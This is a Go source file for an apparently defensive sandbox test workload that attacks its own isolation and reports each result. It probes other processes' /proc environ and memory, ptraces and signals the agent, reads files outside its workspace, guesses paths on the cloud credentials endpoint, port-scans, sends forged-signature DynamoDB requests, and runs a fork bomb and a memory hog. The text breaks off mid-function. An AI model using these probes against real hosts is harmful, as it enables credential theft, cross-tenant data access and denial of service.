// Command hostile is a sandbox workload that attacks what surrounds it, for the e2e
// suite's hostile tests (infra/local/e2e/hostile_test.go). It serves WebSocket on HOST
// and PORT as a workload must, greets each connection with
// {"type":"hello","uid":…,"gid":…,"pid":…} and answers frames:
//
//	{"cmd":"attack","targets":{…}}  every attack below, one {"type":"result"} frame each,
//	                                 then {"type":"done","phase":"attack"}
//	{"cmd":"forkbomb"}              fork until the kernel refuses, then {"type":"result"}, done
//	{"cmd":"memory","maxMiB":n}     fill memory in a child until it is killed or holds n MiB
//	{"cmd":"save","path":…,"data":…} write a file into its workspace, {"type":"saved"}
//	{"cmd":"selfcheck"}             its workspace and port still work: {"type":"works"} frames
//	anything else                   echoed back
//
// A result says whether the attack succeeded (which the tests fail on) and what it
// found. Everything an attack read is appended, as JSON lines, to hostile-report.jsonl
// in the workspace before the attack's frame is sent, so the tests can search it for
// the secrets they know the workload must never see (and see how far an attack got
// that killed the agent and with it the frames). Modes -bomb and -hog are its own
// children.
package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/coder/websocket"
	"golang.org/x/sys/unix"
)

// ReportFile is the attacks' evidence, in the workspace.
const ReportFile = "hostile-report.jsonl"

func main() {
	bomb := flag.Bool("bomb", false, "fork sleepers until refused, print the count, kill them")
	hog := flag.Int("hog", 0, "allocate memory up to this many MiB, printing the total")
	flag.Parse()
	switch {
	case *bomb:
		os.Exit(runBomb())
	case *hog > 0:
		os.Exit(runHog(*hog))
	}
	ln, err := net.Listen("tcp", net.JoinHostPort(os.Getenv("HOST"), os.Getenv("PORT")))
	if err != nil {
		fmt.Fprintln(os.Stderr, "hostile:", err)
		os.Exit(1)
	}
	_ = http.Serve(ln, http.HandlerFunc(serve))
	os.Exit(1)
}

// Targets are what the test tells the attacker about the stack and the other task.
type Targets struct {
	// ExpectedEnv are the only variable names the workload should have.
	ExpectedEnv []string `json:"expectedEnv"`
	// OwnTaskIP and AgentPort are its own agent's address.
	OwnTaskIP string `json:"ownTaskIP"`
	AgentPort int    `json:"agentPort"`
	// VictimEndpoint is the other task's agent; VictimTaskIP its address.
	VictimEndpoint string `json:"victimEndpoint"`
	VictimTaskIP   string `json:"victimTaskIP"`
	// VictimPaths are the other task's directory, workspace and files.
	VictimPaths []string `json:"victimPaths"`
	// StackRoot and StackFiles are the stack's directory and what it keeps there.
	StackRoot  string   `json:"stackRoot"`
	StackFiles []string `json:"stackFiles"`
	// DynamoDBLocal is DynamoDB Local's own host:port; DynamoDBFront, S3 and
	// HostMetadata the stack's endpoints as this machine's processes reach them.
	DynamoDBLocal string `json:"dynamoDBLocal"`
	DynamoDBFront string `json:"dynamoDBFront"`
	S3            string `json:"s3"`
	HostMetadata  string `json:"hostMetadata"`
	Table         string `json:"table"`
	Bucket        string `json:"bucket"`
	VictimUser    string `json:"victimUser"`
}

// Result is one attack's outcome.
type Result struct {
	Type      string `json:"type"`
	Attack    string `json:"attack"`
	Succeeded bool   `json:"succeeded"`
	Detail    string `json:"detail"`
}

// evidence is what an attack read, kept for the report.
type evidence struct {
	Attack string            `json:"attack"`
	Items  map[string]string `json:"items"`
}

type command struct {
	Cmd     string  `json:"cmd"`
	Targets Targets `json:"targets"`
	MaxMiB  int     `json:"maxMiB"`
	Path    string  `json:"path"`
	Data    string  `json:"data"`
}

func serve(w http.ResponseWriter, r *http.Request) {
	c, err := websocket.Accept(w, r, nil)
	if err != nil {
		return
	}
	defer c.CloseNow()
	c.SetReadLimit(1 << 20)
	ctx := r.Context()
	send := func(v any) {
		b, _ := json.Marshal(v)
		_ = c.Write(ctx, websocket.MessageText, b)
	}
	send(map[string]any{"type": "hello", "uid": os.Getuid(), "gid": os.Getgid(), "pid": os.Getpid()})
	for {
		typ, data, err := c.Read(ctx)
		if err != nil {
			return
		}
		var cmd command
		if json.Unmarshal(data, &cmd) != nil || cmd.Cmd == "" {
			_ = c.Write(ctx, typ, data)
			continue
		}
		switch cmd.Cmd {
		case "attack":
			a := &attacker{t: cmd.Targets, send: func(r Result) { send(r) }}
			a.all()
			send(map[string]string{"type": "done", "phase": "attack"})
		case "forkbomb":
			a := &attacker{send: func(r Result) { send(r) }}
			a.run("fork bomb", forkBomb)
			send(map[string]string{"type": "done", "phase": "forkbomb"})
		case "memory":
			a := &attacker{send: func(r Result) { send(r) }}
			a.run("memory", func(ev map[string]string) (bool, string) { return fillMemory(cmd.MaxMiB, ev) })
			send(map[string]string{"type": "done", "phase": "memory"})
		case "save":
			err := save(cmd.Path, cmd.Data)
			send(map[string]any{"type": "saved", "path": cmd.Path, "error": errString(err)})
		case "selfcheck":
			for _, r := range selfcheck() {
				send(r)
			}
			send(map[string]string{"type": "done", "phase": "selfcheck"})
		default:
			_ = c.Write(ctx, typ, data)
		}
	}
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

func workspace() string {
	if d := os.Getenv("SANDGATE_WORKSPACE"); d != "" {
		return d
	}
	d, _ := os.Getwd()
	return d
}

func save(rel, data string) error {
	p := filepath.Join(workspace(), filepath.Clean("/"+rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		return err
	}
	return os.WriteFile(p, []byte(data), 0o644)
}

// attacker runs attacks, reporting each.
type attacker struct {
	t    Targets
	send func(Result)
}

var reportMu sync.Mutex

// run runs one attack: its evidence is appended to the report before its result is
// sent (an attack that kills the agent ends the frames).
func (a *attacker) run(name string, attack func(ev map[string]string) (succeeded bool, detail string)) {
	ev := map[string]string{}
	// Announced first, so a report that ends here names the attack that ended it.
	appendReport(evidence{Attack: name + " (starting)"})
	ok, detail := attack(ev)
	// One line per item: marshalled whole, an attack that read many files (the
	// machine's shared directories on a crowded machine, up to 1 MiB each, escaped up
	// to six-fold) held several times its reads at once and the memory cgroup killed
	// the workload mid-suite.
	appendReport(evidence{Attack: name})
	for k, v := range ev {
		appendReport(evidence{Attack: name, Items: map[string]string{k: v}})
	}
	if len(detail) > 1500 {
		detail = detail[:1500] + "…"
	}
	a.send(Result{Type: "result", Attack: name, Succeeded: ok, Detail: detail})
}

func appendReport(e evidence) {
	reportMu.Lock()
	defer reportMu.Unlock()
	f, err := os.OpenFile(filepath.Join(workspace(), ReportFile), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	if err != nil {
		return
	}
	defer f.Close()
	b, _ := json.Marshal(e)
	_, _ = f.Write(append(b, '\n'))
	_ = f.Sync()
}

// all runs every attack of the "attack" command. A workload that is root, or holds a
// capability, stops there: signalling or tracing processes by number could then hit
// this machine's own.
func (a *attacker) all() {
	a.run("root or capabilities", privileges)
	if ok, _ := privileges(map[string]string{}); ok {
		return
	}
	a.run("own environment", a.ownEnvironment)
	a.run("/proc/*/environ", a.procEnviron)
	a.run("/proc/*/cmdline", procCmdline)
	a.run("/proc/* of other processes (mem, maps, fd, cwd, root, stack)", procPrivate)
	a.run("process_vm_readv the agent", vmRead)
	a.run("ptrace the agent", ptraceOthers)
	a.run("kill(pid, 0) the agent", func(ev map[string]string) (bool, string) { return signalOthers(0, ev) })
	a.run("SIGSTOP the agent", func(ev map[string]string) (bool, string) { return signalOthers(syscall.SIGSTOP, ev) })
	a.run("SIGKILL the agent", func(ev map[string]string) (bool, string) { return signalOthers(syscall.SIGKILL, ev) })
	a.run("files outside the workspace (data directory, task directory)", a.taskFiles)
	a.run("the stack's files (root, aws.env, DynamoDB and S3 data)", a.stackFiles)
	a.run("another task's files", a.victimFiles)
	a.run("shared directories (/tmp, /var/tmp, /dev/shm, /run)", sharedFiles)
	if isolatedNetwork(a) {
		a.run("metadata and credentials endpoints (169.254.170.2), URIs guessed and searched", a.credentialsEndpoint)
	}
	a.run("the metadata server's loopback listener", a.hostMetadata)
	a.run("DynamoDB Local's own port", a.dynamoDBLocal)
	a.run("the DynamoDB front and S3 without credentials", a.unsignedEmulators)
	a.run("every open port of its loopback without credentials", a.openPorts)
	a.run("another task's agent at its address", a.victimAgent)
	a.run("another task's agent at guessed addresses", a.guessedAgents)
	a.run("the model key through its agent's proxy (echoed, forwarded elsewhere)", modelKey)
}

// isolatedNetwork sends a failed result and returns false when the workload has an
// interface but lo: then 169.254.170.2 is this machine's network's, never asked.
func isolatedNetwork(a *attacker) bool {
	ifs, err := net.Interfaces()
	var others []string
	for _, i := range ifs {
		if i.Flags&net.FlagLoopback == 0 {
			others = append(others, i.Name)
		}
	}
	if err != nil || len(others) > 0 {
		a.send(Result{Type: "result", Attack: "a network of its own", Succeeded: true,
			Detail: fmt.Sprintf("the workload sees interfaces %v (%v): it is not in a network namespace of its own, so 169.254.170.2 is not asked", others, err)})
		return false
	}
	return true
}

func (a *attacker) ownEnvironment(ev map[string]string) (bool, string) {
	var extra []string
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		ev["env "+name] = kv
		if !slices.Contains(a.t.ExpectedEnv, name) {
			extra = append(extra, name)
		}
	}
	if len(extra) > 0 {
		return true, "variables beyond the allowlist: " + strings.Join(extra, ", ")
	}
	return false, fmt.Sprintf("%d variables, all on the allowlist", len(os.Environ()))
}

// pids lists /proc's processes but this one.
func pids() []int {
	var out []int
	entries, _ := os.ReadDir("/proc")
	self, _ := os.Readlink("/proc/self")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || e.Name() == self {
			continue
		}
		out = append(out, pid)
	}
	return out
}

// owner returns pid's real uid, as /proc/<pid>/status says.
func owner(pid int) (int, bool) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, false
	}
	for _, line := range strings.Split(string(b), "\n") {
		if ids, ok := strings.CutPrefix(line, "Uid:"); ok {
			f := strings.Fields(ids)
			if len(f) > 0 {
				n, err := strconv.Atoi(f[0])
				return n, err == nil
			}
		}
	}
	return 0, false
}

func (a *attacker) procEnviron(ev map[string]string) (bool, string) {
	var read []string
	n := 0
	for _, pid := range pids() {
		n++
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err != nil || len(b) == 0 {
			continue
		}
		ev[fmt.Sprintf("environ %d", pid)] = string(bytes.ReplaceAll(b, []byte{0}, []byte{'\n'}))
		if uid, ok := owner(pid); !ok || uid != os.Getuid() {
			read = append(read, fmt.Sprintf("%d (uid %d)", pid, uid))
		}
	}
	if len(read) > 0 {
		return true, "read the environment of other users' processes: " + strings.Join(read, ", ")
	}
	return false, fmt.Sprintf("no other user's environ readable among %d processes", n)
}

func procCmdline(ev map[string]string) (bool, string) {
	n := 0
	for _, pid := range pids() {
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)); err == nil {
			n++
			ev[fmt.Sprintf("cmdline %d", pid)] = string(bytes.ReplaceAll(b, []byte{0}, []byte{' '}))
		}
	}
	return false, fmt.Sprintf("read %d command lines (searched for secrets)", n)
}

func procPrivate(ev map[string]string) (bool, string) {
	var got []string
	for _, pid := range pids() {
		if uid, ok := owner(pid); ok && uid == os.Getuid() {
			continue
		}
		base := fmt.Sprintf("/proc/%d/", pid)
		if f, err := os.Open(base + "mem"); err == nil {
			f.Close()
			got = append(got, base+"mem")
		}
		for _, name := range []string{"maps", "stack", "syscall", "auxv", "io", "personality"} {
			if b, err := os.ReadFile(base + name); err == nil && len(b) > 0 {
				got = append(got, base+name)
				ev[base+name] = string(b)
			}
		}
		if _, err := os.ReadDir(base + "fd"); err == nil {
			got = append(got, base+"fd")
		}
		if l, err := os.Readlink(base + "cwd"); err == nil {
			got = append(got, base+"cwd -> "+l)
		}
		if _, err := os.ReadDir(base + "root/"); err == nil {
			got = append(got, base+"root/")
		}
	}
	if len(got) > 0 {
		return true, "other users' processes opened: " + strings.Join(got, ", ")
	}
	return false, "no other user's mem, maps, fd, cwd, root or stack opened"
}

// agentPids are the pids the agent has from here: the parent (the agent started the
// workload, whose launcher exec'd it) and 1 (the agent is its PID namespace's init).
func agentPids() []int {
	out := []int{os.Getppid()}
	if os.Getppid() != 1 {
		out = append(out, 1)
	}
	return out
}

// capabilities returns the workload's effective and permitted capability sets, as
// hexadecimal masks: with none (and a uid not root's) the kernel lets it signal or
// trace only processes of its own uid, whatever their number.
func capabilities() (eff, prm string) {
	b, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			eff = strings.TrimSpace(v)
		}
		if v, ok := strings.CutPrefix(line, "CapPrm:"); ok {
			prm = strings.TrimSpace(v)
		}
	}
	return eff, prm
}

func privileges(ev map[string]string) (bool, string) {
	eff, prm := capabilities()
	ev["capabilities"] = "CapEff " + eff + ", CapPrm " + prm
	if os.Getuid() == 0 || os.Geteuid() == 0 || eff != "0000000000000000" || prm != "0000000000000000" {
		return true, fmt.Sprintf("uid %d (effective %d), CapEff %s, CapPrm %s", os.Getuid(), os.Geteuid(), eff, prm)
	}
	return false, fmt.Sprintf("uid %d, no capability", os.Getuid())
}

func vmRead(ev map[string]string) (bool, string) {
	buf := make([]byte, 64)
	var hit []string
	for _, pid := range agentPids() {
		local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
		// Any address: a refusal comes before the address matters.
		remote := []unix.RemoteIovec{{Base: 0x400000, Len: 64}}
		_, err := unix.ProcessVMReadv(pid, local, remote, 0)
		ev[fmt.Sprintf("process_vm_readv %d", pid)] = errString(err)
		if !errors.Is(err, unix.EPERM) && !errors.Is(err, unix.ESRCH) {
			hit = append(hit, fmt.Sprintf("%d: %v", pid, err))
		}
	}
	if len(hit) > 0 {
		return true, "process_vm_readv was not refused permission: " + strings.Join(hit, ", ")
	}
	return false, "refused (EPERM)"
}

func ptraceOthers(ev map[string]string) (bool, string) {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	var hit []string
	for _, pid := range agentPids() {
		err := syscall.PtraceAttach(pid)
		if err == nil {
			hit = append(hit, fmt.Sprintf("PTRACE_ATTACH %d", pid))
			var ws syscall.WaitStatus
			_, _ = syscall.Wait4(pid, &ws, syscall.WALL, nil)
			_ = syscall.PtraceDetach(pid)
			continue
		}
		seize := unix.PtraceSeize(pid)
		if seize == nil {
			hit = append(hit, fmt.Sprintf("PTRACE_SEIZE %d", pid))
			_ = syscall.PtraceDetach(pid)
		}
		ev[fmt.Sprintf("ptrace %d", pid)] = fmt.Sprintf("attach: %v, seize: %v", err, seize)
	}
	if len(hit) > 0 {
		return true, "traced: " + strings.Join(hit, ", ")
	}
	return false, "every attach and seize refused"
}

func signalOthers(sig syscall.Signal, ev map[string]string) (bool, string) {
	var hit []string
	targets := agentPids()
	for _, pid := range targets {
		err := syscall.Kill(pid, sig)
		ev[fmt.Sprintf("kill %d", pid)] = errString(err)
		if err == nil {
			hit = append(hit, strconv.Itoa(pid))
			if sig == syscall.SIGSTOP {
				_ = syscall.Kill(pid, syscall.SIGCONT)
			}
		}
	}
	if len(hit) > 0 {
		return true, fmt.Sprintf("signal %d delivered to %s", sig, strings.Join(hit, ", "))
	}
	return false, fmt.Sprintf("refused for the agent (pid %v here)", targets)
}

// tryRead reads path (a file: its content; a directory: its listing) into ev.
func tryRead(path string, ev map[string]string) bool {
	fi, err := os.Stat(path)
	if err != nil {
		return false
	}
	if fi.IsDir() {
		entries, err := os.ReadDir(path)
		if err != nil {
			return false
		}
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		ev["list "+path] = strings.Join(names, "\n")
		return true
	}
	f, err := os.Open(path)
	if err != nil {
		return false
	}
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, 1<<20))
	if err != nil {
		return false
	}
	ev["read "+path] = string(b)
	return true
}

func (a *attacker) taskFiles(ev map[string]string) (bool, string) {
	ws := workspace()
	data := filepath.Dir(ws)
	task := filepath.Dir(filepath.Dir(data)) // <task>/mnt/data/workspace
	paths := []string{data, filepath.Join(data, ".sandgate"), filepath.Dir(data), task, filepath.Dir(task)}
	for _, name := range []string{"manifest", "manifest.json", "state.json", "sync.json", ".last-sync"} {
		paths = append(paths, filepath.Join(data, ".sandgate", name))
	}
	var got []string
	for _, p := range paths {
		if tryRead(p, ev) {
			got = append(got, p)
		}
	}
	if len(got) > 0 {
		return true, "read or listed: " + strings.Join(got, ", ")
	}
	return false, "nothing above its workspace could be read or listed"
}

func (a *attacker) stackFiles(ev map[string]string) (bool, string) {
	var got []string
	for _, p := range append([]string{a.t.StackRoot}, a.t.StackFiles...) {
		if tryRead(p, ev) {
			got = append(got, p)
		}
	}
	if len(got) > 0 {
		return true, "read or listed: " + strings.Join(got, ", ")
	}
	return false, fmt.Sprintf("none of %d paths readable", len(a.t.StackFiles)+1)
}

func (a *attacker) victimFiles(ev map[string]string) (bool, string) {
	var got []string
	for _, p := range a.t.VictimPaths {
		if tryRead(p, ev) {
			got = append(got, p)
		}
	}
	if len(got) > 0 {
		return true, "read or listed: " + strings.Join(got, ", ")
	}
	return false, fmt.Sprintf("none of %d paths readable", len(a.t.VictimPaths))
}

// sharedFiles reads whatever it may under the machine's shared directories (for the
// report: the tests search it; a Fargate task has these to itself).
func sharedFiles(ev map[string]string) (bool, string) {
	files, total := 0, 0
	ws := workspace()
	for _, root := range []string{"/tmp", "/var/tmp", "/dev/shm", "/run"} {
		_ = filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
			switch {
			case err != nil:
				return nil
			case p == ws:
				return filepath.SkipDir // its own
			case d.IsDir() && strings.Count(p, "/") > 8:
				return filepath.SkipDir
			case !d.Type().IsRegular() || files >= 3000 || total >= 32<<20:
				return nil
			}
			if tryRead(p, ev) {
				files++
				total += len(ev["read "+p])
			}
			return nil
		})
	}
	return false, fmt.Sprintf("read %d files, %d bytes (searched for secrets)", files, total)
}

func httpClient() *http.Client {
	return &http.Client{Timeout: 3 * time.Second, Transport: &http.Transport{Proxy: nil, DisableKeepAlives: true}}
}

// credentialBody reports whether an answer hands out credentials.
func credentialBody(status int, body string) bool {
	return status == http.StatusOK && (strings.Contains(body, "AccessKeyId") || strings.Contains(body, "SecretAccessKey") || strings.Contains(body, `"Token"`))
}

func (a *attacker) credentialsEndpoint(ev map[string]string) (bool, string) {
	taskID := filepath.Base(filepath.Dir(filepath.Dir(filepath.Dir(workspace()))))
	paths := []string{"/", "/v2/credentials", "/v2/credentials/", "/v2/credentials/../", "/v2/credentials/%2e%2e/",
		"/v2/metadata", "/v3", "/v3/", "/v4", "/v4/", "/v4/" + taskID, "/v4/" + taskID + "/task",
		"/v4/" + taskID + "-0000000000", "/v4/" + taskID + "-0000000000/task", "/credentials", "/v1/credentials",
		"/role-arn", "/latest/meta-data/iam/security-credentials/", "/debug/pprof/", "/v2/credentials/*"}
	for range 200 {
		paths = append(paths, "/v2/credentials/"+uuid())
	}
	return a.probe("http://169.254.170.2", paths, ev)
}

// probe GETs each path of base and reports any answer with credentials.
func (a *attacker) probe(base string, paths []string, ev map[string]string) (bool, string) {
	c := httpClient()
	var hit []string
	answered := 0
	for _, p := range paths {
		resp, err := c.Get(base + p)
		if err != nil {
			ev["GET "+base+p] = err.Error()
			continue
		}
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		resp.Body.Close()
		answered++
		if resp.StatusCode == http.StatusOK || len(ev) < 50 {
			ev["GET "+base+p] = fmt.Sprintf("%d %s", resp.StatusCode, b)
		}
		if credentialBody(resp.StatusCode, string(b)) {
			hit = append(hit, p)
		}
	}
	if len(hit) > 0 {
		return true, "credentials answered at " + base + " " + strings.Join(hit, ", ")
	}
	return false, fmt.Sprintf("%d of %d guesses answered, none with credentials", answered, len(paths))
}

func uuid() string {
	b := make([]byte, 16)
	_, _ = rand.Read(b)
	b[6] = b[6]&0x0f | 0x40
	b[8] = b[8]&0x3f | 0x80
	h := hex.EncodeToString(b)
	return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
}

func (a *attacker) hostMetadata(ev map[string]string) (bool, string) {
	if a.t.HostMetadata == "" {
		return true, "the test named no metadata listener"
	}
	paths := []string{"/v2/credentials/", "/v4/"}
	for range 20 {
		paths = append(paths, "/v2/credentials/"+uuid())
	}
	ok, detail := a.probe(a.t.HostMetadata, paths, ev)
	if c, err := net.DialTimeout("tcp", strings.TrimPrefix(a.t.HostMetadata, "http://"), 2*time.Second); err == nil {
		c.Close()
		return true, "the metadata server's loopback listener is reachable: " + detail
	}
	return ok, "unreachable: " + detail
}

func (a *attacker) dynamoDBLocal(ev map[string]string) (bool, string) {
	if a.t.DynamoDBLocal == "" {
		return true, "the test named no DynamoDB Local port"
	}
	c, err := net.DialTimeout("tcp", a.t.DynamoDBLocal, 2*time.Second)
	if err == nil {
		c.Close()
		ok, detail := dynamoDBData("http://"+a.t.DynamoDBLocal, a.t.Table, ev)
		return true, fmt.Sprintf("DynamoDB Local's own port %s is reachable (data answered: %v, %s)", a.t.DynamoDBLocal, ok, detail)
	}
	ev["dial "+a.t.DynamoDBLocal] = err.Error()
	return false, "unreachable: " + err.Error()
}

// dynamoDBData asks endpoint, unsigned (and signed with a key nobody issued), for the
// table's items; true when it answers them.
func dynamoDBData(endpoint, table string, ev map[string]string) (bool, string) {
	c := httpClient()
	var answers []string
	for _, op := range []struct{ target, body string }{
		{"DynamoDB_20120810.ListTables", `{}`},
		{"DynamoDB_20120810.Scan", `{"TableName":"` + table + `"}`},
	} {
		for _, auth := range []string{"", "AWS4-HMAC-SHA256 Credential=AKIAFORGEDFORGED0000/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host;x-amz-target, Signature=" + strings.Repeat("0", 64)} {
			req, _ := http.NewRequest(http.MethodPost, endpoint+"/", strings.NewReader(op.body))
			req.Header.Set("Content-Type", "application/x-amz-json-1.0")
			req.Header.Set("X-Amz-Target", op.target)
			if auth != "" {
				req.Header.Set("Authorization", auth)
			}
			resp, err := c.Do(req)
			if err != nil {
				ev[endpoint+" "+op.target] = err.Error()
				continue
			}
			b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
			resp.Body.Close()
			ev[fmt.Sprintf("%s %s signed=%v", endpoint, op.target, auth != "")] = fmt.Sprintf("%d %s", resp.StatusCode, b)
			if resp.StatusCode == http.StatusOK && (strings.Contains(string(b), "TableNames") || strings.Contains(string(b), "Items")) {
				answers = append(answers, fmt.Sprintf("%s (signed: %v)", op.target, auth != ""))
			}
		}
	}
	if len(answers) > 0 {
		return true, "answered " + strings.Join(answers, ", ")
	}
	return false, "refused"
}

// s3Data asks endpoint, unsigned, for the bucket's listing and the victim's objects.
func s3Data(endpoint, bucket, victim string, ev map[string]string) (bool, string) {
	c := httpClient()
	var answers []string
	for _, p := range []string{"/", "/" + bucket + "?list-type=2", "/" + bucket + "?list-type=2&prefix=users/" + victim + "/",
		"/" + bucket + "/users/" + victim + "/.last-sync"} {
		resp, err := c.Get(endpoint + p)
		if err != nil {
			ev["GET "+endpoint+p] = err.Error()
			continue
		}
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		resp.Body.Close()
		ev["GET "+endpoint+p] = fmt.Sprintf("%d %s", resp.StatusCode, b)
		if resp.StatusCode == http.StatusOK && (strings.Contains(string(b), "ListBucketResult") || strings.Contains(string(b), "ListAllMyBucketsResult") || strings.HasSuffix(p, ".last-sync")) {
			answers = append(answers, p)
		}
	}
	if len(answers) > 0 {
		return true, "answered " + strings.Join(answers, ", ")
	}
	return false, "refused"
}

func (a *attacker) unsignedEmulators(ev map[string]string) (bool, string) {
	d, dd := dynamoDBData(a.t.DynamoDBFront, a.t.Table, ev)
	s, sd := s3Data(a.t.S3, a.t.Bucket, a.t.VictimUser, ev)
	return d || s, "DynamoDB front: " + dd + "; S3: " + sd
}

// openPorts scans its loopback's 127.0.0.1 and its own address, and asks every port
// that accepts for DynamoDB's and S3's data without credentials.
func (a *attacker) openPorts(ev map[string]string) (bool, string) {
	var open []string
	for _, host := range []string{"127.0.0.1", a.t.OwnTaskIP} {
		for _, p := range scan(host, 1, 65535) {
			open = append(open, net.JoinHostPort(host, strconv.Itoa(p)))
		}
	}
	ev["open ports"] = strings.Join(open, "\n")
	var hit []string
	own := net.JoinHostPort(os.Getenv("HOST"), os.Getenv("PORT"))
	for _, hp := range open {
		if hp == own {
			continue
		}
		if ok, d := dynamoDBData("http://"+hp, a.t.Table, ev); ok {
			hit = append(hit, hp+": "+d)
		}
		if ok, d := s3Data("http://"+hp, a.t.Bucket, a.t.VictimUser, ev); ok {
			hit = append(hit, hp+": "+d)
		}
	}
	if len(hit) > 0 {
		return true, "data without credentials at " + strings.Join(hit, "; ")
	}
	return false, fmt.Sprintf("%d open ports (%s), none answering without credentials", len(open), strings.Join(open, " "))
}

// scan returns the ports of host in [from, to] that accept a connection.
func scan(host string, from, to int) []int {
	var (
		mu   sync.Mutex
		open []int
		wg   sync.WaitGroup
	)
	ports := make(chan int)
	for range 64 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for p := range ports {
				c, err := net.DialTimeout("tcp", net.JoinHostPort(host, strconv.Itoa(p)), 300*time.Millisecond)
				if err == nil {
					c.Close()
					mu.Lock()
					open = append(open, p)
					mu.Unlock()
				}
			}
		}()
	}
	for p := from; p <= to; p++ {
		ports <- p
	}
	close(ports)
	wg.Wait()
	sort.Ints(open)
	return open
}

func (a *attacker) victimAgent(ev map[string]string) (bool, string) {
	if a.t.VictimEndpoint == "" {
		return true, "the test named no other task"
	}
	host := strings.TrimPrefix(a.t.VictimEndpoint, "http://")
	c, err := net.DialTimeout("tcp", host, 2*time.Second)
	if err == nil {
		c.Close()
		resp, herr := httpClient().Get(a.t.VictimEndpoint + "/healthz")
		detail := errString(herr)
		if herr == nil {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			detail = fmt.Sprintf("%d %s", resp.StatusCode, b)
		}
		return true, fmt.Sprintf("connected to the other task's agent %s (health: %s)", host, detail)
	}
	ev["dial "+host] = err.Error()
	var open []string
	if a.t.VictimTaskIP != "" {
		for _, p := range scan(a.t.VictimTaskIP, 1, 65535) {
			open = append(open, strconv.Itoa(p))
		}
	}
	if len(open) > 0 {
		return true, fmt.Sprintf("the other task's address %s accepts on ports %s", a.t.VictimTaskIP, strings.Join(open, ","))
	}
	return false, "its agent and every port of its address unreachable: " + err.Error()
}

func (a *attacker) guessedAgents(ev map[string]string) (bool, string) {
	own, err := netip.ParseAddr(a.t.OwnTaskIP)
	if err != nil {
		return true, "the test named no own address"
	}
	port := strconv.Itoa(a.t.AgentPort)
	var hosts []string
	b := own.As4()
	for i := 1; i < 255; i++ {
		hosts = append(hosts, netip.AddrFrom4([4]byte{b[0], b[1], b[2], byte(i)}).String())
	}
	if v, err := netip.ParseAddr(a.t.VictimTaskIP); err == nil && v.As4()[2] != b[2] {
		vb := v.As4()
		for i := 1; i < 255; i++ {
			hosts = append(hosts, netip.AddrFrom4([4]byte{vb[0], vb[1], vb[2], byte(i)}).String())
		}
	}
	hosts = append(hosts, "127.0.0.1", "localhost", "0.0.0.0")
	var reached []string
	for _, h := range hosts {
		if h == a.t.OwnTaskIP {
			continue
		}
		c, err := net.DialTimeout("tcp", net.JoinHostPort(h, port), 300*time.Millisecond)
		if err == nil {
			c.Close()
			reached = append(reached, h)
		}
	}
	ev["reached"] = strings.Join(reached, "\n")
	if len(reached) > 0 {
		return true, fmt.Sprintf("an agent port (%s) answers at %s", port, strings.Join(reached, ", "))
	}
	return false, fmt.Sprintf("port %s answers at none of %d guessed addresses but its own", port, len(hosts))
}

// forkBomb forks until the kernel refuses, in a child that reports how far it got.
func forkBomb(ev map[string]string) (bool, string) {
	out, err := runChild([]string{"-bomb"}, ev)
	ev["bomber"] = out
	last := lastLine(out)
	if strings.HasPrefix(last, "unbounded ") {
		return true, "forked without a limit: " + last
	}
	if strings.HasPrefix(last, "refused ") {
		return false, "the kernel refused: " + last
	}
	return false, fmt.Sprintf("the bomber ended without a count (%v), bounded: %s", err, last)
}

// bombCap is where the bomber stops counting on its own: a limit it never met.
const bombCap = 20000

func runBomb() int {
	sleep, err := exec.LookPath("sleep")
	if err != nil {
		fmt.Println("no sleep:", err)
		return 1
	}
	attr := &syscall.ProcAttr{Sys: &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}}
	var kids []int
	var refusal error
	for len(kids) < bombCap {
		pid, err := syscall.ForkExec(sleep, []string{"sleep", "600"}, attr)
		if err != nil {
			refusal = err
			break
		}
		kids = append(kids, pid)
	}
	for _, pid := range kids {
		_ = syscall.Kill(pid, syscall.SIGKILL)
	}
	for range kids {
		var ws syscall.WaitStatus
		_, _ = syscall.Wait4(-1, &ws, 0, nil)
	}
	if refusal == nil {
		fmt.Printf("unbounded %d processes\n", len(kids))
		return 0
	}
	fmt.Printf("refused after %d processes: %v\n", len(kids), refusal)
	return 0
}

// fillMemory allocates in a child until it is killed or holds maxMiB.
func fillMemory(maxMiB int, ev map[string]string) (bool, string) {
	if maxMiB <= 0 {
		return true, "no maxMiB given"
	}
	out, err := runChild([]string{"-hog", strconv.Itoa(maxMiB)}, ev)
	last := lastLine(out)
	ev["hog"] = last
	if strings.HasPrefix(last, "held ") {
		return true, "held " + strings.TrimPrefix(last, "held ") + " without being stopped"
	}
	return false, fmt.Sprintf("stopped at %s MiB: %v", last, err)
}

func runHog(maxMiB int) int {
	const chunk = 16 << 20
	held := 0
	for held < maxMiB<<20 {
